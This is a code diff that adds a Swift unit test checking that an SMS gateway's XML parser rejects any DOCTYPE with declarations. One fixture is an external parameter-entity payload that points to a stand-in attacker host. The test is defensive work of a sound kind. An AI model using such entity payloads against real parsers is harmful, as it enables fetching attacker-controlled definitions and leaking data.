@@ -88,4 +88,16 @@ struct GatewayPayloadTests {
         #expect(try kannel.string("/message/submit/oa/number") == "447700900123")
         #expect(try kannel.string("/message/submit/ud")?.hasPrefix("Hi%2C+the+boiler") == true)
     }
+
+    @Test("A DOCTYPE with any declaration is refused, used or not (a parameter entity too); a bare DOCTYPE is read")
+    func declarationsAreRefused() throws {
+        let parameterEntity = #"<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">]><m><t>hi</t></m>"#
+        let unusedEntity = #"<?xml version="1.0"?><!DOCTYPE m [<!ENTITY e "x">]><m><t>hi</t></m>"#
+        let elementDeclaration = #"<?xml version="1.0"?><!DOCTYPE m [<!ELEMENT m ANY>]><m><t>hi</t></m>"#
+        for text in [parameterEntity, unusedEntity, elementDeclaration] {
+            #expect(throws: XMLError.self, "\(text)") { _ = try XMLDocument(Array(text.utf8)) }
+        }
+        let bare = try XMLDocument(Array(#"<?xml version="1.0"?><!DOCTYPE m><m><t>hi</t></m>"#.utf8))
+        #expect(try bare.string("/m/t") == "hi")
+    }
 }
